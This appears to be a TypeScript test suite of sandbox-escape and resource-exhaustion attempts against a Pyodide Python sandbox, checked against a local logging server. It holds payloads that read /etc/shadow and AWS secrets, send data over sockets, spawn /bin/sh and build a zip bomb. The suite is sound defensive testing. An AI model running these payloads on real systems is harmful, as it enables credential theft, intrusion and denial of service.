/** How a program may end: it ran to its end without having got anywhere, it failed, or it was killed for this reason. */
type End = "done" | "error" | "timeout" | "memory" | "output" | "files" | "crash";

export interface Attack {
  name: string;
  /** Prints ESCAPED where it got what it wanted. */
  code: string;
  ends: End[];
  /** MiB. */
  memory?: number;
  /** Seconds. */
  timeout?: number;
}

/** Ways to JavaScript by a name. `tried` is evaluated; getting a value is an escape. */
const BY_NAME: Record<string, string> = {
  js: "__import__('js').document",
  "js through importlib": "__import__('importlib').import_module('js').self",
  "js with a suffix": "__import__('js.indexedDB')",
  pyodide_js: "__import__('pyodide_js')._module",
  "pyodide.code.run_js": "__import__('pyodide.code').code.run_js('1')",
  "pyodide.ffi.to_js": "__import__('pyodide.ffi').ffi.to_js([1]).constructor.constructor('return 1')()",
  "pyodide.http": "__import__('pyodide.http').http.open_url('TARGET')",
  "pyodide core": "__import__('_pyodide_core').JsProxy",
  "pyodide base": "__import__('_pyodide._importhook')._importhook.jsfinder.jsproxies['js']",
  micropip: "__import__('micropip').install('TARGET/x-1.0-py3-none-any.whl')",
  ctypes: "__import__('ctypes').CDLL(None).emscripten_run_script_int(b'1 + 1')",
  "ctypes core": "__import__('_ctypes').dlopen(None, 0)",
  webbrowser: "__import__('webbrowser').open('TARGET') or 1 / 0",
  "the module that was imported before": "__import__('sys').modules['js'].self",
  "the finder that was there before":
    "[f for f in __import__('sys').meta_path if 'Js' in type(f).__name__][0].jsproxies",
  "reload of the library": "__import__('importlib').reload(__import__('pyodide'))",
  "the archive's own importer":
    "__import__('zipimport').zipimporter([p for p in __import__('sys').path if 'python3' in p and p.endswith('.zip')][0]).load_module('pyodide').ffi.to_js([1])",
  "a proxy that the collector knows":
    "[o for o in __import__('gc').get_objects() if 'JsProxy' in type(o).__name__][0].constructor",
  "a module that the collector knows":
    "[o for o in __import__('gc').get_objects() if getattr(type(o), '__name__', '') == 'module' and 'run_js' in vars(o)][0].run_js('1')",
  "the dictionary of hidden modules":
    "[o['js'] for o in __import__('gc').get_objects() if type(o) is dict and 'js' in o][0].self",
  "the runner's keep":
    "[k for k in __import__('sys')._getframe(2).f_globals['kept'] if 'js' in str(type(k)).lower()][0].self",
  "a wrapped sleep": "__import__('time').sleep.__wrapped__.__globals__['run_sync'](1)",
  "the loop of the browser":
    "__import__('asyncio').get_event_loop_policy().get_event_loop().call_later(0, print).cancel() or 1 / 0",
  "subclasses of object": "[c for c in object.__subclasses__() if 'JsProxy' in c.__name__][0].new()",
  "the process's symbols": "open('/proc/self/maps').read()",
  "an extension module":
    "__import__('importlib.machinery').machinery.ExtensionFileLoader('x', '/work/x.so').create_module(__import__('importlib.util').util.spec_from_file_location('x', '/work/x.so'))",
};

/** Ways to the network by Python's own means. */
const BY_NETWORK: Record<string, string> = {
  urlopen: "__import__('urllib.request').request.urlopen('TARGET', timeout=1).status",
  "http.client":
    "(c := __import__('http.client').client.HTTPConnection('127.0.0.1', PORT, timeout=1), c.request('GET', '/stolen'), c.getresponse())",
  socket: "__import__('socket').create_connection(('127.0.0.1', PORT), 1).send(b'stolen')",
  "udp socket": "(s := __import__('socket').socket(2, 2), s.sendto(b'stolen', ('127.0.0.1', PORT)))",
  "raw socket module": "__import__('_socket').socket().connect(('127.0.0.1', PORT))",
  "name of a host": "__import__('socket').gethostbyname('stolen.example')",
  "names of a host": "__import__('socket').getaddrinfo('stolen.example', 80)",
  "asyncio connection": "__import__('asyncio').run(__import__('asyncio').open_connection('127.0.0.1', PORT))",
  "listening socket": "__import__('socket').create_server(('127.0.0.1', 0))",
  "socket pair": "__import__('socket').socketpair()",
  ftp: "__import__('ftplib').FTP('127.0.0.1', timeout=1)",
  mail: "__import__('smtplib').SMTP('127.0.0.1', PORT, timeout=1)",
};

/** Ways to other programs and to the machine. */
const BY_SYSTEM: Record<string, string> = {
  subprocess: "__import__('subprocess').run(['ls'])",
  fork: "__import__('os').fork()",
  exec: "__import__('os').execv('/bin/sh', ['sh'])",
  "a shell": "1 / (__import__('os').system('echo x') == 0)",
  spawn: "__import__('os').posix_spawn('/bin/sh', ['sh'], {})",
  thread: "__import__('threading').Thread(target=print).start()",
  "process pool": "list(__import__('concurrent.futures').futures.ProcessPoolExecutor(1).map(abs, [1]))",
  multiprocessing: "__import__('multiprocessing').Process(target=print).start()",
  pipe: "__import__('os').pipe()",
  "shared memory": "__import__('multiprocessing.shared_memory').shared_memory.SharedMemory(create=True, size=10)",
  "the machine's users": "open('/etc/shadow').read()",
  "the machine's environment":
    "[__import__('os').environ[k] for k in ('USER_AGENT', 'SSH_AUTH_SOCK', 'AWS_SECRET_ACCESS_KEY')]",
  "a terminal": "open('/dev/tty1').read()",
};

/** Whole programs that must end by a limit, or not get anywhere. */
const PROGRAMS: Attack[] = [
  // Time
  { name: "an endless loop", code: "while True: pass", ends: ["timeout"], timeout: 0.5 },
  {
    name: "a loop that swallows every interrupt",
    code: "while True:\n  try:\n    while True: pass\n  except BaseException: pass",
    ends: ["timeout"],
    timeout: 0.5,
  },
  { name: "a loop in C", code: "sum(range(10**15))", ends: ["timeout"], timeout: 0.5 },
  { name: "a long sleep", code: "import time\ntime.sleep(10**6)", ends: ["timeout"], timeout: 0.5 },
  {
    name: "a power of big integers",
    code: "len(str(7 ** (10 ** 8)))",
    ends: ["timeout", "error", "memory"],
    timeout: 0.5,
  },
  {
    name: "a regular expression that never ends",
    code: "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')",
    ends: ["timeout"],
    timeout: 0.5,
  },
  {
    name: "a signal handler that goes on",
    code: "import signal\nfor s in range(1, 32):\n  try: signal.signal(s, lambda *a: None)\n  except (OSError, ValueError): pass\nwhile True: pass",
    ends: ["timeout"],
    timeout: 0.5,
  },
  {
    name: "finalizers that go on",
    code: "class A:\n  def __del__(self):\n    while True: pass\nx = A()\ndel x",
    ends: ["timeout"],
    timeout: 0.5,
  },
  {
    name: "iterating for ever",
    code: "import itertools\nsum(1 for _ in itertools.count())",
    ends: ["timeout"],
    timeout: 0.5,
  },
  {
    name: "a trace that goes on",
    code: "import sys\ndef t(*a):\n  while True: pass\nsys.settrace(t)\n(lambda: 1)()",
    ends: ["timeout"],
    timeout: 0.5,
  },
  {
    name: "a clock that was turned back",
    code: "import time\ntime.time = lambda: 0\ntime.monotonic = lambda: 0\nwhile True: pass",
    ends: ["timeout"],
    timeout: 0.5,
  },
  // Memory
  {
    name: "a list without end",
    code: "x = []\nwhile True: x.append(bytearray(1 << 20))",
    ends: ["error", "memory"],
    memory: 32,
  },
  { name: "one large object", code: "x = bytes(1 << 30)", ends: ["error", "memory"], memory: 32 },
  { name: "a long text", code: "x = 'a' * (1 << 30)", ends: ["error", "memory"], memory: 32 },
  { name: "a text that doubles", code: "x = 'a'\nwhile True: x += x", ends: ["error", "memory"], memory: 32 },
  {
    name: "nested lists",
    code: "x = []\nfor _ in range(10**8): x = [x]",
    ends: ["error", "memory", "crash", "timeout"],
    memory: 32,
    timeout: 5,
  },
  { name: "an integer of many digits", code: "x = 1 << (1 << 31)", ends: ["error", "memory"], memory: 32 },
  {
    name: "a dictionary without end",
    code: "x = {}\nwhile True: x[len(x)] = str(len(x)) * 100",
    ends: ["error", "memory", "timeout"],
    memory: 32,
    timeout: 20,
  },
  {
    name: "memory errors that are swallowed",
    code: "x = []\nfor _ in range(500):\n  try: x.append(bytearray(1 << 20))\n  except MemoryError: pass\n'ESCAPED' if len(x) > 64 else 'held'",
    ends: ["done", "error", "memory"],
    memory: 32,
  },
  {
    name: "a compressed bomb",
    code: "import zlib\nbomb = zlib.compress(bytes(50 << 20))\nx = [zlib.decompress(bomb) for _ in range(40)]",
    ends: ["error", "memory"],
    memory: 64,
  },
  {
    name: "a memory map",
    code: "import mmap\nx = [mmap.mmap(-1, 1 << 20) for _ in range(500)]",
    ends: ["error", "memory"],
    memory: 32,
  },
  // Files and what lies behind them
  { name: "one large file", code: "f = open('big', 'wb')\nwhile True: f.write(bytes(1 << 20))", ends: ["files"] },
  { name: "many files", code: "for i in range(10**6): open(str(i), 'w').close()", ends: ["files", "error"] },
  {
    name: "many links",
    code: "import os\nfor i in range(10**6): os.symlink('x' * 1000, str(i))",
    ends: ["files", "error"],
  },
  { name: "many folders", code: "import os\nfor i in range(10**6): os.mkdir(str(i))", ends: ["files", "error"] },
  { name: "a hole in a file", code: "open('x', 'wb').truncate(1 << 40)", ends: ["files", "error"] },
  {
    name: "a large file that was reserved",
    code: "import os\nos.posix_fallocate(os.open('x', os.O_CREAT | os.O_RDWR), 0, 1 << 34)",
    ends: ["files", "error"],
  },
  {
    name: "files and heap together",
    code: "open('a', 'wb').write(bytes(20 << 20))\nx = bytearray(24 << 20)\n'ESCAPED'",
    ends: ["error", "memory", "files"],
    memory: 32,
  },
  {
    name: "heap and files together",
    code: "x = bytearray(24 << 20)\nopen('a', 'wb').write(bytes(1 << 20) * 12)\n'ESCAPED'",
    ends: ["error", "memory", "files"],
    memory: 32,
  },
  // Output
  { name: "a flood of output", code: "while True: print('flood ' * 1000)", ends: ["output"] },
  { name: "a flood of errors", code: "import sys\nwhile True: sys.stderr.write('flood ' * 1000)", ends: ["output"] },
  { name: "a long value", code: "'x' * (4 << 20)", ends: ["output"] },
  { name: "a long error", code: "raise ValueError('x' * (4 << 20))", ends: ["output"] },
  {
    name: "a flood of the report",
    code: "f = open('/dev/report', 'wb', buffering=0)\nfor _ in range(200): f.write(bytes(1 << 20))\n'after'",
    ends: ["done", "crash", "output"],
  },
  {
    name: "a value whose text never ends",
    code: "class A:\n  def __repr__(self):\n    while True: pass\nA()",
    ends: ["timeout"],
    timeout: 0.5,
  },
  // The interpreter
  { name: "recursion", code: "def f(): return f()\nf()", ends: ["error"] },
  {
    name: "recursion in C",
    code: "import sys\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6): x = [x]\nrepr(x)",
    ends: ["error", "crash", "memory"],
  },
  { name: "an exit", code: "import os\nos._exit(0)", ends: ["crash"] },
  { name: "an abort", code: "import os\nos.abort()", ends: ["crash"] },
  {
    name: "code objects made by hand",
    code: "f = lambda: 1\nf.__code__ = f.__code__.replace(co_code=bytes([255, 255] * 50))\nf()",
    ends: ["error", "crash", "timeout", "done"],
    timeout: 2,
  },
  { name: "a segmentation fault", code: "import faulthandler\nfaulthandler._sigsegv()", ends: ["error", "crash"] },
  {
    name: "marshalled nonsense",
    code: "import marshal\nexec(marshal.loads(b'c' + bytes(200)))",
    ends: ["error", "crash"],
  },
  // The result
  {
    name: "a report of its own",
    code: "open('/dev/report', 'w').write('[\"ESCAPED\", null, \"\"]\\n')\nraise ValueError('honest')",
    ends: ["error"],
  },
  {
    name: "a report of its own, and an exit",
    code: "import os\nopen('/dev/report', 'w').write('[\"ESCAPED\", null, \"\"]\\n')\nos._exit(0)",
    ends: ["done", "crash"],
  },
  {
    name: "a runner that was changed",
    code: "import sys\nsys._getframe(1).f_globals['text_of'] = lambda error: 5\nraise ValueError('x')",
    ends: ["error", "crash"],
  },
  {
    name: "an error that cannot be told",
    code: "class E(Exception):\n  def __str__(self): raise E\nraise E",
    ends: ["error"],
  },
  { name: "closed streams", code: "import os\nos.closerange(0, 100)\nprint('x')", ends: ["done", "error", "crash"] },
];

const wanted = (name: string, tried: string): Attack => ({
  name,
  code: `try:\n  got = ${tried}\nexcept Exception as error:\n  print('refused:', type(error).__name__)\nelse:\n  print('ESCAPED', repr(got)[:100])`,
  ends: ["done", "crash"],
});

/** Every attack; `target` is the address of a server that notes its requests. */
export function attacks(target: string): Attack[] {
  const { port } = new URL(target);
  const byExpression = Object.entries({ ...BY_NAME, ...BY_NETWORK, ...BY_SYSTEM }).map(([name, tried]) =>
    wanted(name, tried.replaceAll("TARGET", target).replaceAll("PORT", port)),
  );
  return [...byExpression, ...PROGRAMS];
}
